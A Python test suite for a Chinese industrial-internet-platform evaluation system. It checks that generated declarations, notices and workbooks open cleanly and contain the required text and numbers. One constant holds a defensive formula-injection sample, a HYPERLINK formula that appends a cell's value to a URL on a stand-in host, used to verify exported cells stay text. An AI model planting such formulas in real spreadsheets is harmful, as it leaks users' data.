"""Every document that Heng makes: opened by LibreOffice, read by poppler and openpyxl, with the sentences it must hold."""

import datetime
import io
import re
import subprocess

import openpyxl
import pytest

from conftest import ROOT, Server
from panel_drive import AUTHORITY, BASE, to_company, to_panel
from round_drive import CITY, COMPANY, LISTS, PLATFORM, ROUND, credit_code

# What a spreadsheet would run if it were written as a formula.
NAME = "=云枢工业互联网平台"
CASE = '=HYPERLINK("http://192.0.2.1/?"&A1,"设备上云")'
PLATFORM_PAPERS = f"/rounds/{ROUND}/papers/{PLATFORM}"
ROUND_PAPERS = f"{AUTHORITY}/papers"
OPERATOR = "昆山云枢数字科技有限公司"

# kind → who asks, the folder of its address, formats, sentences and figures that must be in it, most pages
PAPERS = {
    "declaration": ("manager", PLATFORM_PAPERS, "pdf docx xlsx", ["工业互联网平台评价申报书", "3260.5", "版本号"], 8),
    "commitment": ("manager", PLATFORM_PAPERS, "pdf docx", ["真实性承诺书", "现郑重承诺如下", COMPANY], 2),
    "letter": ("cityhead", ROUND_PAPERS, "pdf docx", ["省工业和信息化厅：", "共推荐1家平台", OPERATOR], 2),
    "summary": ("cityhead", ROUND_PAPERS, "pdf docx xlsx", ["推荐汇总表", OPERATOR, COMPANY], 2),
    "checklist": ("province", PLATFORM_PAPERS, "pdf docx xlsx", ["形式审查表", "真实性承诺书签字盖章齐全"], 6),
    "marks": ("province", PLATFORM_PAPERS, "pdf docx xlsx", ["专家评分表", "专家"], 4),
    "site-check": ("province", PLATFORM_PAPERS, "pdf docx xlsx", ["现场核查记录表", "3260.5"], 6),
    "panel": ("province", ROUND_PAPERS, "pdf docx xlsx", ["会审汇总表", OPERATOR], 2),
    "notice": ("province", ROUND_PAPERS, "pdf docx xlsx", [
        "关于工业互联网平台评价结果的公示", "公示期为7个工作日", "025-86660000", "025-86661111", "附件：公示名单"], 3),
    "annex": ("province", ROUND_PAPERS, "pdf docx xlsx", ["工业互联网平台评价结果", OPERATOR], 2),
}
ITEMS = f"{BASE}/platforms/{PLATFORM}/cells"
# name → who asks, address, name of the first sheet, titles in its header
SHEETS = {
    "template": ("manager", f"{ITEMS}/companies-served/items/template.xlsx", "服务企业", []),
    "list": ("manager", f"{ITEMS}/companies-served/items/list.xlsx", "服务企业", []),
    "submissions-list": ("province", f"{AUTHORITY}/submissions-list.xlsx", "", []),
    "rows": ("province", f"{AUTHORITY}/sampling/rows.xlsx", "", []),
    "sheets": ("inspector", f"{AUTHORITY}/experts/sheets.xlsx", "", []),
    "queue": ("province", f"{AUTHORITY}/queue.xlsx", "", []),
    "decisions": ("province", f"{AUTHORITY}/decisions.xlsx", "", []),
    "signals": ("province", f"{AUTHORITY}/signals.xlsx", "", []),
    "formal-check": ("province", f"{AUTHORITY}/submissions/{PLATFORM}/checklist.xlsx", "", []),
    "panels": ("province", f"{AUTHORITY}/experts/panels.xlsx", "", []),
    "burden": ("province", f"{AUTHORITY}/burden.xlsx", "", []),
    "accounts-template": ("admin", "/accounts/import/template.xlsx", "", []),
}


@pytest.fixture(scope="module")
def papers(tmp_path_factory, heng):
    """All files, made by one server at the end of one round: name → bytes."""
    from round_drive import Person

    server = Server(tmp_path_factory.mktemp("papers") / "data").start()
    rows = [dict(row) for row in LISTS["companies-served"]]
    rows[0]["product"] = CASE
    who = to_panel(to_company(server, name=NAME, lists={**LISTS, "companies-served": rows}, notice=7))
    who["admin"] = Person(server, "admin").sign_in()
    who["province"].json("PUT", f"{BASE}/notice/contacts", {
        "office": "省工信厅信息化推进处", "officePhone": "025-86660000", "inspection": "派驻纪检监察组",
        "inspectionPhone": "025-86661111"}, tag=0)
    files = {}
    for kind, (person, folder, formats, _, _) in PAPERS.items():
        for form in formats.split():
            status, head, body = who[person].ask("GET", f"{folder}/{kind}.{form}")
            assert status == 200, (kind, form, status, body[:400])
            files[f"{kind}.{form}"] = body
    for name, (person, address, _, _) in SHEETS.items():
        status, _, body = who[person].ask("GET", address)
        assert status == 200, (name, status, body[:400])
        files[f"{name}.xlsx"] = body
    server.stop()
    return files


@pytest.fixture(scope="module")
def opened(papers, tmp_path_factory):
    """The text and the pages of each file; DOCX and XLSX as LibreOffice shows them, in one run over all of them."""
    folder = tmp_path_factory.mktemp("opened")
    office = []
    for name, content in papers.items():
        stem, form = name.rsplit(".", 1)
        place = folder / f"{stem}-{form}.{form}"
        place.write_bytes(content)
        if form != "pdf":
            office.append(place)
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile", "--convert-to", "pdf",
         "--outdir", folder, *office], check=True, capture_output=True, timeout=300)
    read = {}
    for name in papers:
        stem, form = name.rsplit(".", 1)
        place = folder / f"{stem}-{form}.pdf"
        assert place.exists(), f"LibreOffice did not open {name}"
        # Cell by cell, and line by line as a person reads them: a cell's lines stand together in the first only.
        text = "".join(subprocess.run(["pdftotext", order, place, "-"], check=True, capture_output=True).stdout.decode()
                       for order in ("-raw", "-layout"))
        pages = int(re.search(rb"Pages:\s+(\d+)", subprocess.run(
            ["pdfinfo", place], check=True, capture_output=True).stdout).group(1))
        fonts = subprocess.run(["pdffonts", place], check=True, capture_output=True).stdout.decode().splitlines()[2:]
        read[name] = (re.sub(r"\s+", "", text), pages, fonts)
    return read


def test_no_kind_of_document_is_left_out():
    kinds = (ROOT / "Sources/Submit/Papers/PrintedPaper.swift").read_text()
    kinds = re.search(r"enum PaperKind.*?\n}", kinds, re.S).group(0)
    named = set()
    for line in re.findall(r"^\s+case (.+)$", kinds, re.M):
        quoted = re.findall(r'"([^"]+)"', line)
        named |= set(quoted or [one.strip() for one in line.split(",")])
    assert named == set(PAPERS)
    routes = set()
    for source in (ROOT / "Sources/Web").rglob("*.swift"):
        routes |= set(re.findall(r'router\.get\("[^"]*/([a-z-]+\.xlsx)"', source.read_text()))
    assert routes == {address.rsplit("/", 1)[1] for _, address, _, _ in SHEETS.values()}


@pytest.mark.parametrize("name", [f"{kind}.{form}" for kind, one in PAPERS.items() for form in one[2].split()])
def test_a_paper_is_opened_and_says_what_it_must(opened, name):
    kind, form = name.split(".")
    text, pages, fonts = opened[name]
    _, _, _, sentences, most = PAPERS[kind]
    if form == "xlsx":
        # A workbook holds the tables alone, under the paper's title.
        sentences = sentences[:1] + [one for one in sentences[1:] if one in (OPERATOR, COMPANY)]
    for sentence in sentences:
        assert re.sub(r"\s+", "", sentence) in text, (name, sentence, text[:3000])
    assert "演练文书，不具效力" in text, "a rehearsal says so on every paper"
    assert "\ufffd" not in text
    assert 1 <= pages <= most, (name, pages)
    if form == "pdf":
        assert fonts, f"{name} has no text"
        for font in fonts:
            assert font.split()[-5] == "yes", f"{name}: a font is not embedded: {font}"
            assert font.split()[-3] == "yes", f"{name}: a font's text cannot be extracted: {font}"


@pytest.mark.parametrize("name", [f"{kind}.xlsx" for kind, one in PAPERS.items() if "xlsx" in one[2]]
                         + [f"{name}.xlsx" for name in SHEETS])
def test_a_workbook_has_headers_numbers_and_no_formula(papers, opened, name):
    book = openpyxl.load_workbook(io.BytesIO(papers[name]))
    assert opened[name][1] >= 1
    for sheet in book.worksheets:
        assert sheet.title and len(sheet.title) <= 31
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name} {sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str) and cell.row > 3 and not re.match(r"0\d|\d{15,}", cell.value):
                    # Figures that stand in a column of figures are numbers; codes and check digits are text.
                    assert not re.fullmatch(r"-?\d+\.\d+", cell.value), f"{name} {cell.coordinate}: {cell.value!r}"
    first = book.worksheets[0]
    if name.removesuffix(".xlsx") in SHEETS:
        wanted = SHEETS[name.removesuffix(".xlsx")][2]
        assert wanted in first.title
        assert all(isinstance(cell.value, str) for cell in first[1]), f"{name}: the header is text"
        assert first.freeze_panes == "A2", f"{name}: the header stays in place"


def cells(papers, name, sheet=0):
    return [[cell.value for cell in row]
            for row in openpyxl.load_workbook(io.BytesIO(papers[name])).worksheets[sheet].iter_rows()]


def test_what_looks_like_a_formula_stays_text_and_is_shown_as_it_was_typed(papers, opened):
    assert any(CASE in row for row in cells(papers, "list.xlsx"))
    assert "HYPERLINK" in opened["list.xlsx"][0]
    for name in ("summary.xlsx", "panel.xlsx", "submissions-list.xlsx", "annex.xlsx"):
        assert any(NAME in row for row in cells(papers, name)), name


def test_the_panels_table_has_ranks_and_points_as_numbers(papers):
    rows = cells(papers, "panel.xlsx")
    head = next(row for row in rows if "名次" in row)
    values = dict(zip(head, rows[rows.index(head) + 1]))
    assert values["名次"] == 1 and isinstance(values["名次"], int)
    assert values["企业名称"] == OPERATOR
    sections = [value for title, value in values.items() if title and re.match("[一二三四]、", title)]
    total = next(value for title, value in values.items() if title and "总分" in title)
    assert len(sections) == 4 and all(isinstance(one, (int, float)) for one in sections)
    assert round(sum(sections), 2) == round(total, 2)


def test_moments_and_codes_of_the_list_of_submissions_are_what_they_are(papers):
    head, row = cells(papers, "submissions-list.xlsx")[:2]
    values = dict(zip(head, row))
    moments = [value for value in values.values() if isinstance(value, datetime.datetime)]
    assert moments and abs(moments[0] - datetime.datetime.now()) < datetime.timedelta(days=2), values
    assert COMPANY in values.values()


def test_counts_of_the_burden_are_numbers(papers):
    head, row = cells(papers, "burden.xlsx")[:2]
    assert row[0] == NAME and all(isinstance(one, int) for one in row[1:]), (head, row)


def test_marks_and_moments_of_the_experts_sheets_are_what_they_are(papers):
    rows = cells(papers, "sheets.xlsx")
    assert len(rows) == 6, "five experts marked one case"
    for row in rows[1:]:
        assert any(isinstance(one, datetime.datetime) for one in row), row
        assert any(one in (76, 78, 80, 82, 84) for one in row), row


def test_a_list_that_was_exported_can_be_imported_again(papers):
    rows = cells(papers, "list.xlsx")
    assert len(rows) == 1 + len(LISTS["companies-served"])
    assert [one["code"] for one in LISTS["companies-served"]] == [row[1] for row in rows[1:]]
